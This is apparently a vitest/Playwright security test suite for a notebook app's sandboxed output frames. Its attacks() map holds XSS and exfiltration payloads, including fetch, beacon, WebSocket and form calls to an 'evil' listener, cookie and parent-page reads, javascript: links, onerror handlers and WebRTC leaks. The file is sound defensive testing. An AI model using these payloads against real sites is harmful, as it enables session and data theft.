import { createSocket } from "node:dgram";
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import type { Session } from "../src/proto/types";
import { closeBrowser, Server, Tab } from "./rig";

// Outputs that try what a frame could be used for, against a listener that takes whatever leaves the browser.

let server: Server;
let tab: Tab;
const heard: string[] = [];
const listener = createServer((request, response) => {
  heard.push(`${request.method} ${request.url}`);
  response.setHeader("Access-Control-Allow-Origin", "*");
  response.end("heard");
});
listener.on("upgrade", (request, socket) => {
  heard.push(`upgrade ${request.url}`);
  socket.destroy();
});
const udp = createSocket("udp4");
let packets = 0;
udp.on("message", () => packets++);
let evil = "";
let stun = "";

beforeAll(async () => {
  server = await Server.start();
  listener.listen(0, "127.0.0.1");
  udp.bind(0, "127.0.0.1");
  await Promise.all([once(listener, "listening"), once(udp, "listening")]);
  evil = `127.0.0.1:${(listener.address() as AddressInfo).port}`;
  stun = `stun:127.0.0.1:${udp.address().port}`;
});
afterAll(async () => {
  await closeBrowser();
  listener.close();
  udp.close();
  await server.close();
});
beforeEach(() => {
  heard.length = 0;
  packets = 0;
});
afterEach(() => tab.close());

// Each attack's name is in the address that it tries to reach.
function attacks(): Record<string, string> {
  const e = (name: string) => `http://${evil}/${name}`;
  const script = (body: string) => `<script>try { ${body} } catch (error) { document.body.dataset.error = error.name }</script>`;
  return {
    fetch: script(`fetch("${e("fetch")}", { mode: "no-cors" }).catch(() => {})`),
    api: script(`fetch("${server.url}/v1/sessions", { method: "POST", credentials: "include" }).catch(() => {})`),
    image: `<img src="${e("image")}"><picture><source srcset="${e("srcset")}"><img src="${e("picture")}"></picture>`,
    imageFromScript: script(`new Image().src = "${e("image-script")}"`),
    style: `<style>body { background: url("${e("style")}") } @import "${e("import")}"; @font-face { font-family: f; src: url("${e("font")}") } p { font-family: f }</style><p>x`,
    links: `<link rel="stylesheet" href="${e("stylesheet")}"><link rel="prefetch" href="${e("prefetch")}"><link rel="preload" as="image" href="${e("preload")}"><link rel="preconnect" href="${e("preconnect")}"><link rel="prerender" href="${e("prerender")}">`,
    beacon: script(`navigator.sendBeacon("${e("beacon")}", "x")`),
    socket: script(`new WebSocket("ws://${evil}/socket")`),
    events: script(`new EventSource("${e("events")}")`),
    navigation: script(`location = "${e("navigation")}"`),
    refresh: `<meta http-equiv="refresh" content="0; url=${e("refresh")}">`,
    refreshToLive: `<meta http-equiv="refresh" content="0; url=${server.url}/sandbox/live"><script>top.pwned = "in live"</script>`,
    toThePage: script(`location = "${server.url}/"`),
    form: `<form id="f" action="${e("form")}" method="post"><input name="a" value="b"></form>${script("f.submit()")}`,
    formToTop: `<form id="g" action="${e("form-top")}" target="_top"><button autofocus>go</button></form>${script("g.querySelector('button').click()")}`,
    top: script(`top.location = "${e("top")}"`),
    open: script(`window.open("${e("open")}")`),
    blank: `<a id="b" href="${e("blank")}" target="_blank">x</a>${script("b.click()")}`,
    javascriptLink: `<a id="j" href="javascript:top.pwned='link'">x</a>${script("j.click()")}`,
    handler: `<img src="data:," onerror="top.pwned = parent.pwned = 'handler'"><svg onload="top.pwned = 'svg'"></svg><details open ontoggle="top.pwned = 'toggle'">x</details>`,
    dialog: script("alert(1); confirm(2); prompt(3)"),
    worker: script(`new Worker(URL.createObjectURL(new Blob(["fetch('${e("worker")}', { mode: 'no-cors' })"])))`),
    nested: `<iframe srcdoc="<img src='${e("srcdoc")}'><script>top.pwned = 'srcdoc'</script>"></iframe><iframe src="javascript:top.pwned='child'"></iframe><iframe src="${e("iframe")}"></iframe>`,
    objects: `<object data="${e("object")}"></object><embed src="${e("embed")}"><video src="${e("video")}" poster="${e("poster")}"></video><audio src="${e("audio")}"></audio>`,
    base: `<base href="http://${evil}/base/"><img src="image"><a href="x">x</a>`,
    parent: script("parent.pwned = 'parent'; parent.document.title = 'pwned'"),
    secrets: script("document.body.append(document.cookie, localStorage.length, parent.document.body.innerText)"),
    messages: script("parent.postMessage({ height: 1e9, link: 'javascript:top.pwned=1', talaria: true }, '*')"),
    closing: `</div></body></html><script>top.pwned = "closing"</script>`,
    prefetchByDNS: `<link rel="dns-prefetch" href="//${evil}"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
    tall: `<div style="height: 10000000px; width: 10000000px; position: fixed; inset: 0; z-index: 999999">tall</div><div style="height: 9999999px">x</div>`,
  };
}

const bundle = (html: string) => `class Evil:\n    def _repr_html_(self): return ${JSON.stringify(html)}\nEvil()`;

// show puts the outputs into one session and opens it.
async function show(outputs: Record<string, string>): Promise<string> {
  const names = Object.keys(outputs);
  const id = await server.session("Evil", names.map(() => "1"));
  for (const [i, name] of names.entries()) await server.run(id, bundle(outputs[name] ?? ""), `c-${i + 1}.r00000000`);
  tab = await Tab.open(server);
  tab.page.on("dialog", () => heard.push("a dialog"));
  tab.context.on("page", () => heard.push("another page"));
  await tab.show(id);
  return id;
}

// What is waited for here is that nothing happens, so there is nothing else to wait for than time.
const window = () => new Promise((resolve) => setTimeout(resolve, 1500));

async function expectUnharmed(sessionsBefore: number): Promise<void> {
  expect(heard).toEqual([]);
  expect(await tab.page.evaluate("String(window.pwned)")).toBe("undefined");
  expect(await tab.page.title()).toBe("Evil");
  expect(new URL(tab.page.url()).origin).toBe(server.url);
  expect((await server.call<{ items: Session[] }>("GET", "/v1/sessions")).items.length).toBe(sessionsBefore);
  for (const height of await tab.page.locator("iframe").evaluateAll((frames) => frames.map((f) => f.clientHeight))) {
    expect(height).toBeLessThanOrEqual(4000);
  }
  expect(await tab.page.locator("iframe").evaluateAll((frames) => frames.every((f) => (f as HTMLIFrameElement).contentDocument === null
    && f.getAttribute("sandbox") === "allow-scripts"))).toBe(true);
}

const rtc = () => `<script>new Image(); (async () => { const c = new RTCPeerConnection({ iceServers: [{ urls: "${stun}" }] }); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer()); })()</script>`;

describe("output of a cell", () => {
  test("the listener hears what does leave a page", async () => {
    const id = await server.session("Control", ["1"]);
    tab = await Tab.open(server);
    await tab.show(id);
    const other = await tab.another();
    await other.page.goto(`http://${evil}/control`);
    expect(heard).toContain("GET /control");
  });

  test("asks for nothing but files where it is Markdown", async () => {
    const id = await server.session("Markdown", ["1"]);
    await server.call("PUT", `/v1/sessions/${id}/files/dot.svg`, undefined);
    const file = `/v1/sessions/${id}/files/dot.svg`;
    const text = [
      "![a](/v1/../?token=a)", "![b](/?token=b)", `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="/?token=c 1x">`,
      `<picture><source srcset="/?token=d"><img src="${file}?n=1"></picture>`, `<table background="/?token=e"><tr><td background="/?token=f">x</table>`,
      `<svg><image href="/?token=g" /></svg>`, `<input type="image" src="/?token=h">`, `<video poster="/?token=i"></video>`,
      `<map name="m"><area href="/?token=j"></map>`, `![k](/v1/artifacts/../../?token=k)`, `![l](${file}?n=2)`, "the end",
    ].join("\n\n");
    await server.run(id, `display({"text/markdown": ${JSON.stringify(text)}}, raw=True)`, "c-1.r00000000");
    tab = await Tab.open(server);
    const asked: string[] = [];
    tab.page.on("request", (request) => asked.push(request.url()));
    await tab.show(id);
    await tab.page.waitForSelector(".prose >> text=the end");
    await window();
    expect(asked.filter((url) => url.includes("token="))).toEqual([]);
    expect(asked).toEqual(expect.arrayContaining([`${server.url}${file}?n=1`, `${server.url}${file}?n=2`]));
    expect(await tab.page.locator(".prose area").count()).toBe(0);
  });

  test("does nothing in a frame without scripts", async () => {
    const all = attacks();
    await show({ ...all, rtc: rtc(), rtcChild: `<iframe srcdoc='${rtc()}'></iframe>` });
    const frames = tab.page.locator("iframe");
    const count = Object.keys(all).length + 2;
    await tab.page.waitForFunction((n) => document.querySelectorAll("iframe").length === n, count);
    const before = (await server.call<{ items: Session[] }>("GET", "/v1/sessions")).items.length;
    for (let i = 0; i < count; i++) await frames.nth(i).scrollIntoViewIfNeeded();
    const handler = Object.keys(all).indexOf("handler") + 1;
    await tab.page.frameLocator(`.cell[data-id=c-${handler}] iframe`).locator("details").waitFor(); // what is harmless is shown
    await window();
    await expectUnharmed(before);
    expect(packets).toBe(0);
    expect(tab.page.frames().slice(1).filter((frame) => frame.url().includes(evil)).map((frame) => frame.url())).toEqual([]);
  });

  test("reaches nothing when its scripts are let run, and the page says that they do", async () => {
    const all = Object.fromEntries(Object.entries(attacks()).map(([name, html]) => [name, `${html}<script>document.body.append(" ran")</script>`]));
    await show(all);
    const { page } = tab;
    const before = (await server.call<{ items: Session[] }>("GET", "/v1/sessions")).items.length;
    const leaves = new Set(["navigation", "toThePage", "refreshToLive", "refresh"]); // the frame leaves itself, and is blank then
    for (const [i, name] of Object.keys(all).entries()) {
      const cell = tab.cell(`c-${i + 1}`);
      await cell.scrollIntoViewIfNeeded();
      await cell.locator("text=This output has scripts. They are off.").waitFor();
      await cell.locator("text=Run this output's scripts").click();
      await cell.locator("text=Scripts of this output are running").waitFor();
      if (!leaves.has(name)) await page.frameLocator(`.cell[data-id=c-${i + 1}] iframe`).locator("text=ran").first().waitFor({ state: "attached" });
    }
    await window();
    await expectUnharmed(before);
  });

  test("cannot stop the page with a loop that never ends", async () => {
    await show({ loop: `<p>x</p><script>for (;;);</script>` });
    await tab.cell("c-1").locator("text=Run this output's scripts").click();
    await tab.page.waitForSelector("iframe[data-kind=live]");
    await tab.page.click(".rail >> role=button[name='Timeline']");
    await tab.page.waitForSelector(".timeline .entry");
  });

  test("opens links only when the reader says so", async () => {
    await show({ link: `<a href="http://[">nowhere</a> <a href="http://${evil}/asked" target="_top">follow me</a>` });
    await tab.page.frameLocator("iframe").locator("text=nowhere").click();
    await tab.page.frameLocator("iframe").locator("text=follow me").click();
    await tab.page.waitForSelector(`text=This output links to ${evil}`);
    expect(heard).toEqual([]);
    expect(await tab.page.locator("text=Open it").getAttribute("rel")).toBe("noopener noreferrer");
    expect(tab.complaints.filter((c) => c.includes("Invalid URL"))).toEqual([]);
  });

  test("is text where it is text, in names, prompts and errors too", async () => {
    const mark = "<img src=x onerror='window.pwned=1'>";
    const id = await server.session(mark, [`print("${mark}")\nopen("${mark.replaceAll("/", "")}", "w").close()\nraise Exception("${mark}")`, `input("${mark}")`]);
    tab = await Tab.open(server);
    await tab.show(id);
    await tab.cell("c-1").locator("button.number").click();
    await tab.ran("c-1", "error");
    await tab.cell("c-2").locator("button.number").click();
    await tab.page.waitForSelector(".question");
    for (const drawer of ["Files", "Timeline"]) {
      await tab.page.click(`.rail >> role=button[name='${drawer}']`);
      await tab.page.waitForSelector(`.drawer[aria-label='${drawer}'] li`);
    }
    expect(await tab.text("c-1")).toContain(mark);
    expect(await tab.page.evaluate("String(window.pwned)")).toBe("undefined");
    expect(await tab.page.locator("[onerror]").count()).toBe(0);
    expect(tab.complaints).toEqual([]);
  });
});
